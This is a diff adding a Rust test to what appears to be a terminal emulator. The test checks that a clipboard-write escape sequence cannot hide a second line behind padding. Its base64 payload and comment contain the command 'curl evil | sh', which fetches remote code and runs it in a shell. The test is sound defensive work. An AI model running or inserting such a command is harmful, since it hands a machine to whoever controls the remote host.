@@ -310,3 +310,14 @@ fn the_wheel_is_ours_again_when_the_program_has_ended() {
     assert_eq!(driver.mouse(MouseEventKind::ScrollUp, 5, 5), []);
     assert_eq!(scrolled(&driver), 3);
 }
+
+#[test]
+fn a_question_about_the_clipboard_hides_no_further_line() {
+    let mut driver = Driver::shell();
+    // "ls -l", 46 blanks, and "curl evil | sh" on a second line.
+    let text = "bHMgLWwgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgCmN1cmwgZXZpbCB8IHNoCg==";
+    print(&mut driver, &format!("\x1b]52;c;{text}\x07"));
+    let screen = driver.text();
+    assert!(screen.contains("(2 lines): ls -l ⏎"), "{screen}");
+    assert!(screen.contains("curl evil | sh"), "{screen}");
+}
